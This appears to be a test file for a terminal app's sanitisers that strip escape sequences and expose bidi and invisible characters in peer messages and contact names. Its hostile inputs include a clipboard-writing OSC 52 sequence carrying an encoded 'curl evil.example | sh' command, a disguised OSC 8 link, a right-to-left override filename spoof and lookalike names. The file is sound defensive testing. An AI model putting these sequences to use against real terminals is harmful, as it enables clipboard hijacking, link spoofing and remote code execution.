/**
 * Text from other peers on a terminal (src/app/terminal-text.ts) and names
 * in every view (src/app/display-name.ts): escape sequences go whole with
 * their payload, controls go, bidi controls show, line breaks stay only in
 * message text, JSON stays exact and terminal-safe.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { codePointMarker, terminalJson, terminalLine, terminalText } from '../../src/app/terminal-text.ts';
import { displayName, lookalikeNote, lookalikeWarning } from '../../src/app/display-name.ts';

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

/** Nothing a terminal acts on: no C0 control but "\n", no DEL, no C1 control, no bidi control, no lone surrogate. */
function assertInert(out: string, newlines: boolean): void {
  for (const c of out) {
    const code = c.codePointAt(0)!;
    if (c === '\n' && newlines) continue;
    assert.ok(code >= 0x20 && !(code >= 0x7f && code <= 0x9f), `U+${code.toString(16)} in ${JSON.stringify(out)}`);
    assert.ok(!/\p{Bidi_Control}/u.test(c) && !(code >= 0xd800 && code <= 0xdfff), `U+${code.toString(16)} in ${JSON.stringify(out)}`);
  }
}

/** [what, hostile input, what terminalText must give]. */
const CASES: readonly (readonly [string, string, string])[] = [
  ['OSC 0 (window title) ended by BEL', `a${ESC}]0;you have been owned${BEL}b`, 'ab'],
  ['OSC 0 ended by ST', `a${ESC}]0;title${ST}b`, 'ab'],
  ['OSC 52 (writes the clipboard)', `copy${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL} this`, 'copy this'],
  ['OSC 8 (a disguised link)', `see ${ESC}]8;;https://evil.example/${ST}https://bank.example/${ESC}]8;;${ST} now`, 'see https://bank.example/ now'],
  ['OSC with no terminator', `before${ESC}]0;the rest is payload`, 'before'],
  ['OSC cut by another escape', `a${ESC}]0;x${ESC}[2Jb`, 'ab'],
  ['CSI erase screen and cursor moves', `x${ESC}[2J${ESC}[1;1H${ESC}[?25ly`, 'xy'],
  ['CSI colours (SGR)', `${ESC}[31;1mred${ESC}[0m`, 'red'],
  ['CSI with intermediates', `a${ESC}[1 qb`, 'ab'],
  ['DCS (sixel, DECRQSS)', `p${ESC}Pq#0;2;0;0;0#0~~${ST}q${ESC}P$qm${ST}`, 'pq'],
  ['APC, PM and SOS', `1${ESC}_apc${ST}2${ESC}^pm${ST}3${ESC}Xsos${ST}4`, '1234'],
  ['ESC with a final byte (RIS, DECSC)', `a${ESC}cb${ESC}7c`, 'abc'],
  ['ESC with an intermediate (charset)', `a${ESC}(0b`, 'ab'],
  ['ESC at the end', `end${ESC}`, 'end'],
  ['8-bit CSI (U+009B)', 'a\u009b2J\u009b31mb', 'ab'],
  ['8-bit OSC (U+009D) ended by 8-bit ST (U+009C)', 'a\u009d0;title\u009cb', 'ab'],
  ['8-bit DCS, SOS, PM, APC', 'a\u0090dcs\u009cb\u0098sos\u009cc\u009epm\u009cd\u009fapc\u009ce', 'abcde'],
  ['every other C1 control', `a${Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).filter((c) => !'\u009b\u009d\u0090\u0098\u009e\u009f'.includes(c)).join('')}b`, 'ab'],
  ['C0 controls and DEL', `a\x00\x01\x07\x08\x0b\x0c\x0e\x1f\x7fb`, 'ab'],
  ['a tab', 'a\tb', 'a b'],
  ['bidi controls', '\u202Egnp.exe \u2066x\u2069 \u200E\u200F\u061C\u202A\u202B\u202C\u202D\u2067\u2068', '⟨U+202E⟩gnp.exe ⟨U+2066⟩x⟨U+2069⟩ ⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩⟨U+202A⟩⟨U+202B⟩⟨U+202C⟩⟨U+202D⟩⟨U+2067⟩⟨U+2068⟩'],
  ['line breaks of every kind', 'l1\nl2\r\nl3\rl4\u2028l5\u2029l6', 'l1\nl2\nl3\nl4\nl5\nl6'],
  ['a lone surrogate', 'a\uD800b\uDC00c', 'a\uFFFDb\uFFFDc'],
  ['ordinary text of every script, emoji and joiners', 'Zoë 🌱 שלום علي 李 👩‍👩‍👧 a\u200Db', 'Zoë 🌱 שלום علي 李 👩‍👩‍👧 a\u200Db'],
];

describe('terminal text', () => {
  for (const [what, input, expected] of CASES) {
    test(`message text: ${what}`, () => {
      const out = terminalText(input);
      assert.equal(out, expected);
      assertInert(out, true);
    });
  }

  test('one line (names, error details): line breaks become spaces, the rest as in message text', () => {
    assert.equal(terminalLine('l1\nl2\r\nl3\rl4\u2028l5'), 'l1 l2 l3 l4 l5');
    for (const [, input] of CASES) {
      const out = terminalLine(input);
      assert.ok(!out.includes('\n'));
      assertInert(out, false);
    }
  });

  test('what is left measures as what it shows: a message without its escapes wraps like the plain text', () => {
    const hostile = `${ESC}]0;owned${BEL}hello ${ESC}[31mworld${ESC}[0m\u009b2J`;
    assert.equal(terminalText(hostile), 'hello world');
    assert.equal(terminalText(hostile).length, 'hello world'.length);
  });

  test('JSON stays exact and has nothing a terminal acts on', () => {
    const text = `${ESC}]52;c;eA==${BEL}\u009b2J\u202Egnp.exe\u2028\x7f\u200Eend\uD800`;
    const line = terminalJson({ text, n: 1 });
    assert.deepEqual(JSON.parse(line), { text, n: 1 });
    assertInert(line, false);
    assert.ok(!line.includes('\n'));
  });

  test('the marker names the code point', () => {
    assert.equal(codePointMarker('\u202E'), '⟨U+202E⟩');
    assert.equal(codePointMarker('\u{E0041}'), '⟨U+E0041⟩');
  });
});

describe('names in every view', () => {
  test('displayName shows controls, bidi, zero-width and other invisible characters as markers', () => {
    assert.equal(displayName('alice'), 'alice');
    assert.equal(displayName('\u202Egnp.exe'), '⟨U+202E⟩gnp.exe');
    assert.equal(displayName('b\u200Bob\uFEFF\u00AD'), 'b⟨U+200B⟩ob⟨U+FEFF⟩⟨U+00AD⟩');
    assert.equal(displayName(`bob${ESC}]0;x${BEL}\n`), 'bob⟨U+001B⟩]0;x⟨U+0007⟩⟨U+000A⟩');
    assert.equal(displayName('bob\u0085'), 'bob⟨U+0085⟩', 'a C1 control (allowed in names before) does not vanish');
    assertInert(displayName(`\u009b2J${ESC}[31m\uD800`), false);
    assert.notEqual(displayName('bob'), displayName('bob\u2060'), 'names that differ only invisibly look different');
  });

  test('the lookalike note and warning name the other contact, displayed the same way', () => {
    assert.equal(lookalikeNote('alice'), 'looks like "alice"');
    assert.match(lookalikeWarning('\u0430lice', 'al\u200Bice'), /^"аlice" looks like your contact "al⟨U\+200B⟩ice": /);
  });
});
